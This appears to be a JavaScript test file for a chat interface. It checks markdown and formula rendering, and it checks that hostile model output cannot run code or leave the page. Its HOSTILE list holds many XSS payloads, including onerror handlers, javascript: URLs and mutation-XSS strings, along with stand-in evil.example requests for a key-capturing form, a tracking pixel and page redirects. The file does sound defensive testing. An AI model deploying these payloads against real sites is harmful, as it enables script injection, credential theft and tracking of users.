// Markdown, formulas and code; and a model that means harm.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { answer, ask, model_says, now, picture, ready, says, watch } from './kit.mjs';

const RICH = `# A heading

Some **bold**, *slanted* and \`code\`, a [link](https://example.org/) and \`<b>\`.

| planet | moons |
|:-------|------:|
| Mars   | 2     |
| Saturn | 146   |

1. one
2. two
   - inner
- [x] done

> quoted

\`\`\`python
def f(x):
    return "a" + x  # a comment
\`\`\`

Euler: $e^{i\\pi} + 1 = 0$, it costs $5 and $6, and

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$

\\[ \\sum_k k \\] and \\(a_b\\). List<String> stays, H<sub>2</sub>O too.
`;

test('markdown, formulas and code', async () => {
	const { page } = now;
	await now.context.grantPermissions(['clipboard-read', 'clipboard-write']);
	await model_says(says(RICH));
	await ask('Show me.');
	const text = (await answer()).locator('> .text');
	const count = (selector) => text.locator(selector).count();
	for (const [selector, n] of [['h1', 1], ['table', 1], ['td', 4], ['td[align=right]', 2], ['ol > li', 2], ['blockquote', 1], ['strong', 1], ['em', 1],
		['sub', 1], ['.code', 1]])
		assert.equal(await count(selector), n, selector);
	await page.waitForFunction(() => document.querySelectorAll('.math math').length === 4);
	await page.waitForFunction(() => document.querySelector('.hljs-keyword'));
	assert.equal(await count('.hljs-string'), 1);
	const shown = await text.innerText();
	for (const words of ['$5 and $6', 'List<String> stays', '☑ done', '<b>']) assert.ok(shown.includes(words), words);
	const link = text.locator('a');
	assert.deepEqual([await link.getAttribute('href'), await link.getAttribute('target'), await link.getAttribute('rel')],
		['https://example.org/', '_blank', 'noopener noreferrer nofollow']);
	await picture('markdown');
	await text.locator('.code').getByRole('button', { name: 'Copy' }).click();
	await text.getByText('Copied').waitFor();
	assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def f(x):\n    return "a" + x  # a comment');
	await page.locator('.message.assistant > .acts .copy').click();
	await page.waitForFunction((whole) => navigator.clipboard.readText().then((t) => t === whole), RICH);
});

// Each tries to run code, to leave the page, to fetch, to style or to look like the page's own.
const HOSTILE = [
	'<script>globalThis.harmed = 1</script>',
	'<img src=x onerror="globalThis.harmed = 2">',
	'<svg onload="globalThis.harmed = 3"><script>globalThis.harmed = 3</script></svg>',
	'<svg><animate onbegin="globalThis.harmed = 3" attributeName=x dur=1s></svg>',
	'[click](javascript:globalThis.harmed=4)', '[click](  JaVaScRiPt&colon;globalThis.harmed=4)', '<javascript:globalThis.harmed=4>',
	'[click](data:text/html,<script>globalThis.harmed=4</script>)', '[click](vbscript:x)', '[here](/v1/cache)', '[f](file:///etc/passwd)',
	'<a href="javascript:globalThis.harmed=5" onclick="globalThis.harmed=5">x</a>',
	'<style>body { display: none }</style>', '<div style="position:fixed;inset:0">over</div>', '<link rel=stylesheet href=//evil.example/x.css>',
	'<form action="//evil.example"><input name=key><button>Settings</button></form>', '<button onclick="globalThis.harmed=6">Send</button>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.harmed=7&gt;">',
	'<math href="javascript:globalThis.harmed=8">x</math>', '<mi xlink:href="data:x,<script>globalThis.harmed=8</script>">',
	'<iframe srcdoc="<script>parent.harmed=9</script>"></iframe>', '<object data="data:text/html,x"></object>', '<embed src=x>', '<base href="//evil.example/">',
	'<meta http-equiv=refresh content="0;url=//evil.example">', '<template><img src=x onerror=globalThis.harmed=10></template>',
	'<noscript><p title="</noscript><img src=x onerror=globalThis.harmed=11>">', '<details open ontoggle=globalThis.harmed=12>x</details>',
	'<p id=text name=text class="message failed">clobber</p>', '<b class="problem" style="color:red" onmouseover="globalThis.harmed=13">bold</b>',
	'![tracker](https://evil.example/pixel.png)', '![x](javascript:globalThis.harmed=14)', '![x"onerror="globalThis.harmed=15](y)',
	'$\\href{javascript:globalThis.harmed=16}{x}$', '$\\htmlStyle{position:fixed}{x}$', '$\\includegraphics{https://evil.example/x.png}$',
	'$\\def\\a{\\a\\a}\\a$', '$\\text{<img src=x onerror=globalThis.harmed=17>}$', '$$<script>globalThis.harmed=18</script>$$',
	'```"><img src=x onerror=globalThis.harmed=19>\nx\n```', '```html\n<img src=x onerror=globalThis.harmed=20>\n```', '```message failed\nx\n```',
	'`<img src=x onerror=globalThis.harmed=21>`', '| <img src=x onerror=globalThis.harmed=22> |\n|---|\n| <script>globalThis.harmed=22</script> |',
	'[a]: javascript:globalThis.harmed=23\n[a]', '<<script>script>globalThis.harmed=24</script>', '<!--><img src=x onerror=globalThis.harmed=25>-->',
	'<a\nhref="java\tscript:globalThis.harmed=26">x</a>', '\u0000<img src=x onerror=globalThis.harmed=27>', '&lt;img src=x onerror=globalThis.harmed=28&gt;',
	'<kbd onclick="globalThis.harmed=29">x</kbd>', '<sub/onmouseover=globalThis.harmed=30>x</sub>', '<textarea></textarea><img src=x onerror=globalThis.harmed=31>',
	'>'.repeat(5000) + ' deep', '- '.repeat(3000) + 'deep', '[' .repeat(5000), '*'.repeat(5000) + 'a', '$' + '{'.repeat(5000) + '$',
];

test('a model that means harm does none', async () => {
	const { page } = now;
	const left = watch();
	await page.waitForFunction(() => document.title === 'weft-tiny · weft');
	// All of them in one answer, the long ones aside, as they would come; then each alone.
	await model_says(says(HOSTILE.filter((h) => h.length < 1000).join('\n\n')));
	await ask('Harm me.');
	await answer();
	const judge = async (list) => {
		const { markdown } = await import('/page/markdown.js');
		const { library } = await import('/page/libraries.js');
		await Promise.all([library('katex.js'), library('highlight.js')]);
		const place = document.querySelector('.message.assistant > .text');
		const found = [['all', judged(place)]];
		for (const source of list) {
			place.replaceChildren(markdown(source));
			found.push([source.slice(0, 200), judged(place)]);
		}
		await new Promise((done) => requestAnimationFrame(() => setTimeout(done))); // what waits for a picture that fails
		return found.filter(([, what]) => what);
	};
	assert.deepEqual(await page.evaluate(judge, HOSTILE), []);
	assert.equal(await page.evaluate(() => globalThis.harmed), undefined);
	assert.deepEqual([left, await page.title()], [[], 'weft-tiny · weft']);
	assert.ok(page.url().startsWith(now.server.url));
});

test('what a person writes is text', async () => {
	await model_says(says('ok'));
	const wrote = '<img src=x onerror="globalThis.harmed=1"> **not bold** <script>globalThis.harmed=1</script>';
	await ask(wrote);
	await answer();
	assert.equal(await now.page.locator('.message.user .text').innerText(), wrote);
	assert.equal(await now.page.evaluate(() => globalThis.harmed), undefined);
});

test('the policy holds by itself: no script, style or HTML from text', async () => {
	const { page } = now;
	now.expected = /Content Security Policy|Trusted/i;
	const refused = await page.evaluate(async () => {
		const out = [];
		const told = new Promise((done) => {
			document.addEventListener('securitypolicyviolation', (e) => {
				out.push(e.effectiveDirective);
				if (out.includes('connect-src') && out.includes('img-src')) done();
			});
		});
		const s = document.createElement('script');
		s.append('globalThis.harmed = 1');
		try { document.body.append(s); } catch { /* refused as TrustedScript */ }
		try { document.body.innerHTML = '<p>x</p>'; } catch { /* refused as TrustedHTML */ }
		const p = document.createElement('p');
		p.setAttribute('style', 'color: red');
		document.body.append(p);
		fetch('https://evil.example/').catch(() => null);
		const img = new Image();
		img.src = 'https://evil.example/x.png';
		document.body.append(img);
		await told;
		return out;
	});
	assert.equal(await page.evaluate(() => globalThis.harmed), undefined);
	for (const d of ['style-src-attr', 'connect-src', 'img-src', 'require-trusted-types-for']) assert.ok(refused.includes(d), `${d} of ${refused}`);
});

test('a build without the libraries shows plain text', async () => {
	const fetched = [];
	now.page.on('request', (r) => fetched.push(new URL(r.url()).pathname));
	await now.page.route('**/page/libraries.js', async (route) => {
		const reply = await route.fetch();
		const source = await reply.text();
		const bare = source.replace(/const embedded = \[.*\];/, 'const embedded = [];');
		assert.notEqual(bare, source);
		return route.fulfill({ response: reply, body: bare });
	});
	await now.page.reload();
	await ready();
	await model_says(says('**bold** <b>b</b> <img src=x onerror=globalThis.harmed=1>\n```js\nlet a = `b`;\n```\n| a |\n|---|\n'));
	await ask('x');
	const text = (await answer()).locator('> .text');
	assert.equal(await text.locator('b, img, table, strong').count(), 0);
	assert.equal(await text.locator('pre code').innerText(), 'let a = `b`;\n');
	assert.ok((await text.innerText()).startsWith('**bold** <b>b</b> <img'));
	assert.deepEqual(fetched.filter((p) => /marked|dompurify|highlight|katex/.test(p)), []);
});
